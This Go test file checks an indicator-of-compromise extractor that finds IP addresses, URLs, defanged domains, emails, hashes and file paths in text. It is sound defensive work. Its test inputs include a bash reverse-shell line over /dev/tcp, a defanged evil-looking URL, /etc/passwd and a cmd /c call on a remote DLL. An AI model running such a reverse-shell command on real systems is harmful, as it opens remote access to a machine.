package observe

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestFind(t *testing.T) {
	const md5, sha1 = "801e8003c257c8f540b20f1e0decd3a6", "51b8646308ee0b68ad1f7f1291b85395434de49a"
	for text, want := range map[string][]string{
		"-ip4:206.123.1.123 and 10.0.0.5:443, 1.2.3.4.5 10.0.18362.1 999.1.1.1":         {"ipv4 206.123.1.123", "ipv4 10.0.0.5"},
		"Version=4.0.0.0, Culture=neutral v 1.2.3.4":                                    {},
		"206[.]123[.]1[.]123 hXXps://evil[.]example[.]com/a":                            {"ipv4 206.123.1.123", "url https://evil.example.com/a", "dns evil.example.com<url"},
		"2001:0db8:85a3:0000:0000:8a2e:0370:7334 fe80::1 12:34:56 aa:bb:cc:dd:ee:ff":    {"ipv6 2001:db8:85a3::8a2e:370:7334", "ipv6 fe80::1"},
		"::ffff:192.0.2.128 [::1]:80 std::string":                                       {"ipv4 192.0.2.128", "ipv6 ::1"},
		"/url:https://user@some.domain.es:88/path?q=1#x\n":                              {"url https://user@some.domain.es:88/path?q=1#x", "dns some.domain.es<url"},
		"curl 'https://host.net/ui/90.156.201.27/x'":                                    {"url https://host.net/ui/90.156.201.27/x", "dns host.net<url", "ipv4 90.156.201.27<url"},
		"http://10.10.10.5/news.php http://server:8080/x":                               {"url http://10.10.10.5/news.php", "ipv4 10.10.10.5<url", "url http://server:8080/x"},
		"http://[2001:db8::1]:8080/a":                                                   {"url http://[2001:db8::1]:8080/a", "ipv6 2001:db8::1<url"},
		"mail <user@microsoft.com> user[at]abc[.]net a@b":                               {"email user@microsoft.com", "dns microsoft.com<email", "email user@abc.net", "dns abc.net<email"},
		"SHA1=" + strings.ToUpper(sha1) + ",MD5=" + md5 + "," + strings.Repeat("a", 32): {"sha1 " + sha1, "md5 " + md5},
		md5 + " " + md5: {"md5 " + md5, "md5 " + md5},
		"blah.ps1 run.sh x.zip $_.Name $a.com Get.Info( domain.like.uk domain.like.iandom news.ycombinator.com": {"dns domain.like.uk", "dns news.ycombinator.com"},
		`"C:\Program Files\a b\x.exe" -x C:\Windows\System32\cmd.exe /c \\srv01\c$\x.dll`: {
			`windows_path C:\Program Files\a b\x.exe`, `windows_path C:\Windows\System32\cmd.exe`, `windows_path \\srv01\c$\x.dll`,
		},
		`C:\Program Files (x86)\Tool\t.exe --flag`:     {`windows_path C:\Program Files (x86)\Tool\t.exe`},
		"/bin/bash --file:/etc/passwd cmd /c /F a/b/c": {"linux_path /bin/bash", "linux_path /etc/passwd"},
		"bash -i >& /dev/tcp/192.168.2.6/443 0>&1":     {"linux_path /dev/tcp/192.168.2.6/443"},
		"": {},
	} {
		got := []string{}
		for _, o := range Find(text) {
			line := string(o.Type) + " " + o.Value
			if o.PartOf != "" {
				line += "<" + string(o.PartOf)
			}
			got = append(got, line)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

func FuzzFind(f *testing.F) {
	f.Add("hxxps://a[.]b.com/x C:\\a\\b.exe \\\\h\\s /etc/x ::1 a@b.com 1.2.3.4")
	f.Add("http://[::1")
	f.Fuzz(func(t *testing.T, text string) {
		last := 0
		for _, o := range Find(text) {
			if o.Value == "" || o.Offset < 0 || o.Offset > len(text) {
				t.Fatalf("%+v in %q", o, text)
			}
			if o.PartOf == "" && o.Offset+8 < last {
				t.Fatalf("%q: offsets go back to %d from %d", text, o.Offset, last)
			}
			last = max(last, o.Offset)
		}
	})
}

func BenchmarkFind(b *testing.B) {
	text := strings.Repeat(`"C:\Windows\System32\svchost.exe" -k netsvcs -p -s Schedule --type=utility http://10.1.2.3/x.php --lang=en-US `, 100)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Find(text)
	}
}
